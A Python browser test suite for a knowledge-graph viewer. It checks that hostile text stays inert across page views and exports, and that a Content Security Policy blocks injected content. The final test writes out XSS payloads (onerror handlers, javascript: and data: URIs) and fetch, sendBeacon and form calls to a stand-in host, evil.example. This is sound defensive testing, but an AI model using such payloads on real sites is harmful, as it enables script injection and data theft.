"""Text of documents in every field of the page, in a real browser: it stays text."""

from __future__ import annotations

import json
from pathlib import Path
from xml.etree import ElementTree

import networkx
import pytest
from browsing import Show, block, choose, count, take

from graph.exports.jsonl import loads
from graph.model import KnowledgeGraph, Result
from graph.views import VIEWS, render

pytestmark = pytest.mark.browser


def page_of(graph: KnowledgeGraph, view: str) -> str:
    """The page of ``view``, with a payload as title, as name asked for, and as heads of columns."""
    bad = graph.statements[0].subject.name
    names = (graph.entities[0].id,) if view == "around" else ()
    row = tuple(e.name for e in graph.entities)
    answer = Result(tuple(f"{e.name}{n}" for n, e in enumerate(graph.entities)), (row,), bad)
    given = answer if view == "query" else None
    return render(graph, view, names, title=bad, result=given, title_en=bad)


@pytest.mark.parametrize("view", VIEWS)
def test_hostile_text_stays_text(show: Show, hostile: KnowledgeGraph, view: str) -> None:
    watched = show(page_of(hostile, view))
    page = watched.page
    unfold = "all => all.forEach(one => { one.open = true })"
    page.locator("details").evaluate_all(unfold)
    page.locator("details.more").evaluate_all(unfold.replace("true", "false"))
    data = block(page)
    for number in range(0, len(data["nodes"]), 3):
        page.evaluate(
            f"location.hash = '#n=' + encodeURIComponent({json.dumps(data['nodes'][number][1])})"
        )
        choose(page, data["nodes"][number][2])
        page.locator("#panel details").evaluate_all(unfold)
    for act in ("pin", "connect"):
        page.click(f"[data-act={act}]")
    choose(page, data["nodes"][0][2])
    assert count(page, "statements") > 0
    assert count(page, "entities") > 0
    page.click("#language")
    page.click("#tabs button[data-tab=picture]")
    page.mouse.move(300, 300)
    page.evaluate("dispatchEvent(new Event('beforeprint')); dispatchEvent(new Event('afterprint'))")
    page.wait_for_timeout(100)
    assert watched.clean(), watched
    assert not page.locator(
        "#panel img, #panel svg[onload], iframe, li script, td script, label script, base, math"
    ).count()
    assert page.evaluate("Object.prototype.polluted") is None


def test_what_is_taken_away_stays_text(show: Show, hostile: KnowledgeGraph, tmp_path: Path) -> None:
    watched = show(page_of(hostile, "ecosystem"))
    page = watched.page
    svg = take(page, "svg", tmp_path)
    assert svg.name.endswith(".svg")
    assert "/" not in svg.name
    assert not set('\\:*?"<>|\u202e\0') & set(svg.name)
    root = ElementTree.fromstring(svg.read_text(encoding="utf-8"))
    assert {one.tag.rpartition("}")[2] for one in root.iter()} <= {
        "svg", "title", "text", "path", "clipPath",
    }  # fmt: skip
    graphml = networkx.read_graphml(take(page, "graphml", tmp_path), force_multigraph=True)
    assert graphml.number_of_edges() == len(hostile.statements)
    lines = take(page, "jsonl", tmp_path).read_bytes().decode("utf-8").split("\n")
    assert loads(lines).statements == hostile.statements
    table = take(page, "csv", tmp_path).read_bytes().decode("utf-8-sig")
    assert not [cell for cell in table.split(",") if cell.lstrip('"').startswith(("=", "@"))]
    choose(page, hostile.entities[0].name)
    kept = take(page, "html", tmp_path).read_text(encoding="utf-8")
    assert watched.clean(), watched
    again = show(kept)
    assert again.clean(), again
    assert block(again.page) == block(page)
    for file in (svg,):
        page.goto(file.as_uri())
        page.wait_for_timeout(100)
    assert not watched.dialogs
    assert watched.ran is None


def test_policy_holds_against_what_is_injected(show: Show, two_programmes: KnowledgeGraph) -> None:
    watched = show(render(two_programmes))
    refused: dict[str, str | None] = {}
    watched.page.on("requestfailed", lambda one: refused.update({one.url: one.failure}))
    watched.page.evaluate(
        """() => {
          document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran=1">');
          const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
          add('script', { textContent: 'window.ran=2' });
          add('script', { src: 'data:text/javascript,window.ran=3' });
          add('iframe', { srcdoc: '<script>parent.ran=4</scr' + 'ipt>' });
          add('iframe', { src: 'javascript:parent.ran=5' });
          add('img', { src: 'https://evil.example/x.png' });
          add('object', { data: 'data:text/html,x' });
          add('form', { action: 'https://evil.example' });
          document.querySelector('form').requestSubmit?.();
          add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' });
          setTimeout('window.ran=6', 0);
          try { new Worker('data:text/javascript,1'); } catch (error) { /* refused */ }
          fetch('https://evil.example').catch(() => {});
          navigator.sendBeacon?.('https://evil.example');
        }"""
    )
    watched.page.wait_for_timeout(200)
    assert watched.ran is None
    # Playwright also tells of requests that never left: the policy is what stopped each of them.
    assert {refused[url] for url in watched.requests if url.startswith("http")} <= {"csp"}
    assert sum("Content Security Policy" in text for text in watched.errors) >= 8
